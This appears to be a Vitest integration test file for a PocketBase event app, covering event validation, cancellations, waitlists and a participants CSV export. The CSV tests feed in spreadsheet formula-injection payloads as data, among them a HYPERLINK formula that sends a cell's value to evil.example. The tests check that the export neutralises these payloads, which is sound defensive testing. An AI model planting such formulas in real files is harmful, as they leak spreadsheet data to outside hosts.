// Hosts managing events against a real PocketBase: coded refusals for bad edits, what a
// cancellation does to passes, more places moving the waitlist up, participants as CSV.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { TypedPocketBase } from '../../src/lib/pocketbase/types';
import { fromStored } from '../../src/lib/time/venue-clock';
import { listen } from '../helpers/listen';
import { createEvent, minutesFromNow, startTestServer, type TestServer } from '../helpers/server';

let server: TestServer;
let host: TypedPocketBase;
beforeAll(async () => {
  server = await startTestServer();
  host = (await server.person('host', 'Maja Lindqvist')).pb;
});
afterAll(() => server?.stop());

const draft = (fields: Record<string, unknown> = {}) => ({
  title: 'Kurs i bokföring',
  kind: 'course',
  starts: minutesFromNow(24 * 60),
  ends: minutesFromNow(26 * 60),
  capacity: 10,
  status: 'draft',
  ...fields,
});

/** The refusal a request met: its status and the field and code the app words (never the message). */
async function refusal(promise: Promise<unknown>) {
  const error = await promise.then(
    () => null,
    (e: { status: number; response: { data: Record<string, { code: string; params?: Record<string, unknown> }> } }) => e,
  );
  expect(error, 'the server accepted what it should refuse').not.toBeNull();
  const [field, detail] = Object.entries(error!.response.data)[0] ?? [];
  return { status: error!.status, field, code: detail?.code, ...(detail?.params ? { params: detail.params } : {}) };
}

async function passesOf(registrationId: string) {
  return server.admin.collection('passes').getFullList({ filter: `registration = "${registrationId}"` });
}

describe('event validation', () => {
  it.each([
    [{ title: '   ' }, 'title', 'event_title_missing'],
    [{ starts: '' }, 'starts', 'event_starts_missing'],
    [{ ends: '' }, 'ends', 'event_ends_missing'],
    [{ ends: minutesFromNow(23 * 60) }, 'ends', 'event_ends_before_starts'],
    [{ ends: minutesFromNow(24 * 60) }, 'ends', 'event_ends_before_starts'],
    [{ ends: minutesFromNow(24 * 60 * 9) }, 'ends', 'event_too_long'],
    [{ capacity: -1 }, 'capacity', 'event_capacity_invalid'],
    [{ capacity: 2.5 }, 'capacity', 'event_capacity_invalid'],
    [{ status: 'archived' }, 'status', 'event_status_invalid'],
    [{ status: 'cancelled' }, 'status', 'event_new_cancelled'],
  ])('a new event with %j is refused: %s %s', async (fields, field, code) => {
    expect(await refusal(host.collection('events').create(draft(fields)))).toEqual({ status: 400, field, code });
  });

  it('refuses edits that would break what people were promised', async () => {
    const event = await host.collection('events').create(draft({ status: 'published', capacity: 3 }));
    for (const role of ['member', 'guest'] as const) {
      const { pb, user } = await server.person(role);
      await pb.collection('registrations').create({ event: event.id, user: user.id });
    }
    expect(await refusal(host.collection('events').update(event.id, { capacity: 1 }))).toEqual({
      status: 400,
      field: 'capacity',
      code: 'event_capacity_below_confirmed',
      params: { confirmed: 2 },
    });
    expect(await refusal(host.collection('events').update(event.id, { status: 'draft' }))).toEqual({
      status: 400,
      field: 'status',
      code: 'event_has_registrations',
    });
    expect(await refusal(host.collection('events').update(event.id, { ends: event.starts }))).toEqual({
      status: 400,
      field: 'ends',
      code: 'event_ends_before_starts',
    });
    await host.collection('events').update(event.id, { status: 'cancelled' });
    expect(await refusal(host.collection('events').update(event.id, { status: 'published' }))).toEqual({
      status: 400,
      field: 'status',
      code: 'event_stays_cancelled',
    });
    const stored = await server.admin.collection('events').getOne(event.id);
    expect([stored.status, stored.capacity, stored.ends]).toEqual(['cancelled', 3, event.ends]);
  });

  it('refuses to publish an event that has already ended, with a field code the app words', async () => {
    const past = { starts: '2020-03-10 17:00:00.000Z', ends: '2020-03-10 19:00:00.000Z' };
    const coded = async (promise: Promise<unknown>) => {
      const { status, field, code } = await refusal(promise);
      return [status, field === 'ends' ? code : `${field}:${code}`];
    };
    // created published, or a draft published later: refused
    expect(await coded(host.collection('events').create(draft({ ...past, status: 'published' })))).toEqual([400, 'event_ended']);
    const old = await host.collection('events').create(draft(past));
    expect(await coded(host.collection('events').update(old.id, { status: 'published' }))).toEqual([400, 'event_ended']);
    expect((await server.admin.collection('events').getOne(old.id)).status).toBe('draft');
    // a published event moved into the past: refused; one that just ended keeps its text editable
    const live = await host.collection('events').create(draft({ status: 'published' }));
    expect(await coded(host.collection('events').update(live.id, past))).toEqual([400, 'event_ended']);
    const ended = await server.admin.collection('events').create(draft({ ...past, status: 'published' }));
    await expect(host.collection('events').update(ended.id, { title: 'Kurs i bokföring (bilder)' })).resolves.toMatchObject({
      status: 'published',
    });
    // an ongoing event (started, not ended) can still be published
    const ongoing = await host.collection('events').create(draft({ starts: minutesFromNow(-30), ends: minutesFromNow(30) }));
    await expect(host.collection('events').update(ongoing.id, { status: 'published' })).resolves.toMatchObject({ status: 'published' });
  });

  it('a draft becomes published and readable by everyone', async () => {
    const event = await host.collection('events').create(draft());
    const guest = await server.person('guest');
    await expect(guest.pb.collection('events').getOne(event.id)).rejects.toMatchObject({ status: 404 });
    await host.collection('events').update(event.id, { status: 'published' });
    expect((await guest.pb.collection('events').getOne(event.id)).title).toBe('Kurs i bokföring');
  });
});

describe('realtime', () => {
  it("a host's edit reaches an open app, and so does a cancellation with its notices", async () => {
    const event = await createEvent(server.admin, { title: 'Jubileumsföredrag', capacity: 5 });
    const { pb: guest, user } = await server.person('guest');
    await guest.collection('registrations').create({ event: event.id, user: user.id });
    const phone = await listen<{ action: string; record: { id: string; starts: string; status: string } }>(server.url, {
      token: guest.authStore.token,
      topics: ['events/*'],
    });
    const { seen, until } = phone;
    try {
      const moved = await host.collection('events').update(event.id, { starts: minutesFromNow(25 * 60), ends: minutesFromNow(27 * 60) });
      await until((seen) => seen.some((m) => m.record.id === event.id && m.record.starts === moved.starts));
      expect(seen.find((m) => m.record.starts === moved.starts)?.action).toBe('update');

      await host.collection('events').update(event.id, { status: 'cancelled' });
      await until((seen) => seen.some((m) => m.record.id === event.id && m.record.status === 'cancelled'));
      // what the edits' transaction protects was written with them: the notices of both facts
      const notices = await server.admin.collection('notices').getFullList({ filter: `event = "${event.id}"` });
      expect(notices.map((n) => n.kind).sort()).toEqual(expect.arrayContaining(['cancelled', 'changed']));
    } finally {
      phone.close();
    }
  });
});

describe('cancelling an event', () => {
  it('revokes every pass, keeps the registrations and moves nobody up', async () => {
    const event = await createEvent(server.admin, { title: 'Frukost som ställs in', capacity: 2 });
    const people = [await server.person('member'), await server.person('guest'), await server.person('guest')];
    const registrations = [];
    for (const { pb, user } of people) {
      registrations.push(await pb.collection('registrations').create({ event: event.id, user: user.id }));
    }
    expect(registrations.map((r) => r.status)).toEqual(['confirmed', 'confirmed', 'waitlisted']);
    expect((await passesOf(registrations[0].id))[0].revoked).toBe(false);

    await host.collection('events').update(event.id, { status: 'cancelled' });

    for (const registration of registrations.slice(0, 2)) {
      const passes = await passesOf(registration.id);
      expect(passes).toHaveLength(1);
      expect(passes[0].revoked).toBe(true);
    }
    expect(await passesOf(registrations[2].id)).toHaveLength(0);
    const after = await server.admin.collection('registrations').getFullList({ filter: `event = "${event.id}"`, sort: 'position' });
    expect(after.map((r) => r.status)).toEqual(['confirmed', 'confirmed', 'waitlisted']);
    // the person sees the cancellation in the event itself, and their pass is gone
    expect((await people[0].pb.collection('events').getOne(event.id)).status).toBe('cancelled');
    const valid = await people[0].pb.collection('passes').getFullList({ filter: "kind = 'event' && revoked = false" });
    expect(valid).toHaveLength(0);
  });

  it('more places move the waitlist up, in order', async () => {
    const event = await createEvent(server.admin, { title: 'Populär kurs', capacity: 1 });
    const registrations = [];
    for (let i = 0; i < 3; i++) {
      const { pb, user } = await server.person('guest');
      registrations.push(await pb.collection('registrations').create({ event: event.id, user: user.id }));
    }
    await host.collection('events').update(event.id, { capacity: 2 });
    const after = await server.admin.collection('registrations').getFullList({ filter: `event = "${event.id}"`, sort: 'position' });
    expect(after.map((r) => r.status)).toEqual(['confirmed', 'confirmed', 'waitlisted']);
    expect((await passesOf(registrations[1].id))[0].revoked).toBe(false);
  });
});

describe('participants as CSV', () => {
  it('gives hosts confirmed people first, then the waitlist in order, readable by Excel', async () => {
    const event = await createEvent(server.admin, { title: 'Träff för nya medlemmar', capacity: 1 });
    const names = ['Åsa Öberg', '=HYPERLINK("x")', 'Erik "Ekan" Sandberg'];
    const users = [];
    for (const name of names) {
      const person = await server.person('guest', name);
      users.push(person.user);
      await person.pb.collection('registrations').create({ event: event.id, user: person.user.id });
    }
    const response = await fetch(`${server.url}/api/coffice/events/${event.id}/participants.csv`, {
      headers: { Authorization: host.authStore.token },
    });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
    expect(response.headers.get('content-disposition')).toMatch(
      /^attachment; filename="participants-\d{4}-\d{2}-\d{2}-Traff-for-nya-medlemmar\.csv"$/,
    );
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = new TextDecoder().decode(bytes.slice(3)).trimEnd().split('\r\n');
    expect(lines[0]).toBe('status;place;name;email;registered (Stockholm time)');
    const rows = lines.slice(1).map((line) => line.split(';').slice(0, 4));
    expect(rows).toEqual([
      ['confirmed', '1', 'Åsa Öberg', users[0].email],
      ['waitlisted', '1', `"'=HYPERLINK(""x"")"`, users[1].email],
      ['waitlisted', '2', '"Erik ""Ekan"" Sandberg"', users[2].email],
    ]);
    // the time of registering, on the venue's clock
    const first = await server.admin.collection('registrations').getFirstListItem(`user = "${users[0].id}"`);
    const local = new Intl.DateTimeFormat('sv-SE', {
      timeZone: 'Europe/Stockholm',
      year: 'numeric',
      month: '2-digit',
      day: '2-digit',
      hour: '2-digit',
      minute: '2-digit',
    }).format(fromStored(first.created));
    expect(lines[1].split(';')[4]).toBe(local);
  });

  it('never hands a spreadsheet a formula, even behind spaces, tabs or line breaks', async () => {
    const event = await createEvent(server.admin, { title: 'Kalkylkväll', capacity: 0 });
    const names = [
      '  =HYPERLINK("https://evil.example/?d="&A1;"Klicka")',
      '\t=1+1',
      ' \r\n+SUM(1;2)',
      '\u00a0-2+3',
      '\n@cmd',
      'Anna-Lena Öst',
    ];
    for (const name of names) {
      const person = await server.person('guest', name);
      await person.pb.collection('registrations').create({ event: event.id, user: person.user.id });
    }
    const response = await fetch(`${server.url}/api/coffice/events/${event.id}/participants.csv`, {
      headers: { Authorization: host.authStore.token },
    });
    const cells = parseCsv((await response.text()).replace(/^\uFEFF/, ''))
      .slice(1)
      .map((row) => row[2]);
    expect(cells).toHaveLength(names.length);
    for (const [i, cell] of cells.entries()) {
      if (i === names.length - 1) {
        expect(cell).toBe('Anna-Lena Öst'); // a dash inside a name is no formula
        continue;
      }
      expect(cell.startsWith("'"), JSON.stringify(cell)).toBe(true);
      expect(cell.slice(1).trim()).toBe(names[i].trim()); // the name itself is kept
    }
  });

  it("speaks the host's language and never shows a walk-in's placeholder address", async () => {
    const event = await createEvent(server.admin, { title: 'Frukost', capacity: 5 });
    const guest = await server.person('guest', 'Åsa Öberg');
    await guest.pb.collection('registrations').create({ event: event.id, user: guest.user.id });
    const walkIn = await server.admin.collection('users').create({
      email: `walk-in-${Date.now().toString(36)}@walk-in.invalid`,
      password: 'ett-langt-losenord-1',
      passwordConfirm: 'ett-langt-losenord-1',
      name: 'Karin Ek',
    });
    await server.admin.collection('registrations').create({ event: event.id, user: walkIn.id, status: 'confirmed' });
    const csv = async (lang: string) => {
      const response = await fetch(`${server.url}/api/coffice/events/${event.id}/participants.csv?lang=${lang}`, {
        headers: { Authorization: host.authStore.token },
      });
      return (await response.text())
        .replace(/^\uFEFF/, '')
        .trimEnd()
        .split('\r\n')
        .map((line) => line.split(';').slice(0, 4));
    };
    expect(await csv('sv')).toEqual([
      ['status', 'plats', 'namn', 'e-post'],
      ['bekräftad', '1', 'Åsa Öberg', guest.user.email],
      ['bekräftad', '2', 'Karin Ek', 'insläppt vid dörren, ingen e-post'],
    ]);
    expect((await csv('en'))[2]).toEqual(['confirmed', '2', 'Karin Ek', 'walk-in, no e-mail']);
  });

  it('is for hosts only', async () => {
    const event = await createEvent(server.admin);
    const url = `${server.url}/api/coffice/events/${event.id}/participants.csv`;
    const member = await server.person('member');
    const asMember = await fetch(url, { headers: { Authorization: member.pb.authStore.token } });
    expect(asMember.status).toBe(403);
    expect((await asMember.json()).message).toBe('Only hosts can download participant lists.');
    expect((await fetch(url)).status).toBe(401);
    const unknown = await fetch(`${server.url}/api/coffice/events/nosuchevent1234/participants.csv`, {
      headers: { Authorization: host.authStore.token },
    });
    expect(unknown.status).toBe(404);
  });
});

/** Rows of a semicolon CSV with quoted fields (quotes doubled inside, line breaks allowed). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ';') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}
